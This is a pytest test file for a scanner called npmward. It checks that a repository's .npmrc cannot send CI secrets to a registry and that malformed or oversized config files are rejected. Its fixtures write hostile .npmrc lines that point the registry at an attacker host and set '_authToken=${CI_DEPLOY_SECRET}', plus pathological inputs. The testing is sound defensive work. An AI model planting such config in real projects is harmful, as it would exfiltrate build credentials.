"""A scanned repository's `.npmrc` is written by whoever wrote the repository: it must not make
npmward send the runner's secrets anywhere, and a broken value is a clear error naming the file and
the key. Environment variables are expanded in the user's and the global npmrc (and `NPM_CONFIG_*`),
never in a project's unless the caller opts in."""

from __future__ import annotations

import time

import pytest
from registry_server import LocalServer

from npmward.registry import HttpPolicy, RegistryClient, RegistryError, load_npm_config, nerf_dart
from npmward.settings import Settings

SECRET = "ci-deploy-FAKE-secret-0123456789"


@pytest.fixture
def layout(tmp_path):
    project, home = tmp_path / "project", tmp_path / "home"
    project.mkdir()
    home.mkdir()
    (project / "package.json").write_text("{}")
    env = {"HOME": str(home), "PREFIX": str(tmp_path / "prefix"), "CI_DEPLOY_SECRET": SECRET}
    return project, home, env


def _everything_shown(config) -> str:
    return " ".join([repr(config), str(config), config.summary(), *config.notes])


def test_a_project_npmrc_cannot_send_an_environment_secret_to_its_registry(layout):
    project, home, env = layout
    with LocalServer() as attacker:
        (project / ".npmrc").write_text(f"registry={attacker.url}\n"
                                        f"{nerf_dart(attacker.url)}:_authToken=${{CI_DEPLOY_SECRET}}\n")
        attacker.json("/left-pad", {"name": "left-pad", "versions": {}})
        config = load_npm_config(project, env=env, home=home)
        assert config.registry == attacker.url and config.auth_headers(attacker.url + "left-pad") == {}
        with RegistryClient(Settings(cache_dir=project / "cache"), config, policy=HttpPolicy(retries=0)) as client:
            client.packument("left-pad")
        assert attacker.seen and all("Authorization" not in s.headers and "authorization" not in s.headers
                                     for s in attacker.seen)
        assert all(SECRET not in str(s.headers) for s in attacker.seen)
    assert SECRET not in _everything_shown(config)
    note = " ".join(config.notes)
    assert "_authToken" in note and "${CI_DEPLOY_SECRET}" in note and str(project / ".npmrc") in note
    assert "not expanded" in note


def test_the_user_npmrc_is_trusted_and_a_project_only_with_the_opt_in(layout):
    project, home, env = layout
    (home / ".npmrc").write_text("//npm.corp.example/:_authToken=${CI_DEPLOY_SECRET}\n")
    (project / ".npmrc").write_text("@corp:registry=https://npm.corp.example/\n"
                                    "//other.corp.example/:_authToken=${CI_DEPLOY_SECRET}\n")
    config = load_npm_config(project, env=env, home=home)
    assert config.auth_headers("https://npm.corp.example/@corp/x") == {"Authorization": f"Bearer {SECRET}"}
    assert config.auth_headers("https://other.corp.example/x") == {}
    opted = load_npm_config(project, env=env, home=home, expand_project_env=True)
    assert opted.auth_headers("https://other.corp.example/x") == {"Authorization": f"Bearer {SECRET}"}
    assert opted.notes == ()


def test_a_project_registry_does_not_inherit_the_users_default_registry_token(layout):
    project, home, env = layout
    (home / ".npmrc").write_text(f"_authToken={SECRET}\n")
    assert load_npm_config(project, env=env, home=home).auth_headers("https://registry.npmjs.org/x") == \
        {"Authorization": f"Bearer {SECRET}"}
    (project / ".npmrc").write_text("registry=https://attacker.test/\n")
    config = load_npm_config(project, env=env, home=home)
    assert config.auth_headers("https://attacker.test/x") == {}
    assert config.auth_headers("https://registry.npmjs.org/x") == {"Authorization": f"Bearer {SECRET}"}
    assert SECRET not in _everything_shown(config)


def test_an_unset_variable_in_a_trusted_file_sends_nothing(layout):
    project, home, env = layout
    (home / ".npmrc").write_text("//npm.corp.example/:_authToken=${NOT_SET_ANYWHERE}\n")
    config = load_npm_config(project, env=env, home=home)
    assert config.auth_headers("https://npm.corp.example/x") == {}
    assert "${NOT_SET_ANYWHERE}" in " ".join(config.notes) and "not set" in " ".join(config.notes)


@pytest.mark.parametrize("line, key", [
    ("registry=http://[::1", "registry"),
    ("registry=http://[::1]:99999/", "registry"),
    ("registry=ftp://files.example/", "registry"),
    ("registry=not a url", "registry"),
    ("@acme:registry=https://", "@acme:registry"),
    ("@acme:registry=http://[fe80::1%25eth0", "@acme:registry"),
])
def test_invalid_registry_urls_are_errors_naming_the_file_and_the_key(layout, line, key):
    project, home, env = layout
    (project / ".npmrc").write_text(line + "\n")
    with pytest.raises(RegistryError) as info:
        load_npm_config(project, env=env, home=home)
    assert str(project / ".npmrc") in str(info.value) and f"{key}:" in str(info.value)


def test_an_unexpanded_project_variable_in_a_url_says_how_to_opt_in(layout):
    project, home, env = layout
    (project / ".npmrc").write_text("registry=https://${CORP_HOST}/npm/\n")
    with pytest.raises(RegistryError, match="not expanded in a project"):
        load_npm_config(project, env={**env, "CORP_HOST": "corp.example"}, home=home)
    assert load_npm_config(project, env={**env, "CORP_HOST": "corp.example"}, home=home,
                           expand_project_env=True).registry == "https://corp.example/npm/"


def test_invalid_urls_in_the_environment_name_the_variable(layout):
    project, home, env = layout
    with pytest.raises(RegistryError, match="environment.*registry: invalid URL"):
        load_npm_config(project, env={**env, "NPM_CONFIG_REGISTRY": "http://[::1"}, home=home)


def test_credentials_for_unparseable_urls_match_nothing():
    assert nerf_dart("http://[::1") == ""


@pytest.mark.parametrize("text", ["${" * 300_000, "\\" * 600_000 + "x", "a=${" + "b" * 600_000, ("x=\\" * 100_000)])
def test_pathological_lines_are_read_in_linear_time(layout, text):
    project, home, env = layout
    (project / ".npmrc").write_text(text + "\n")
    start = time.monotonic()
    for expand in (False, True):
        load_npm_config(project, env=env, home=home, expand_project_env=expand)
    assert time.monotonic() - start < 10


def test_an_oversized_npmrc_is_refused(layout):
    project, home, env = layout
    (project / ".npmrc").write_text("; padding\n" * 200_000)
    with pytest.raises(RegistryError, match="refused: larger than"):
        load_npm_config(project, env=env, home=home)


def test_an_npmrc_that_is_not_a_regular_file_is_refused_without_blocking(layout):
    import os
    project, home, env = layout
    os.mkfifo(project / ".npmrc")
    with pytest.raises(RegistryError, match="not a regular file"):
        load_npm_config(project, env=env, home=home)
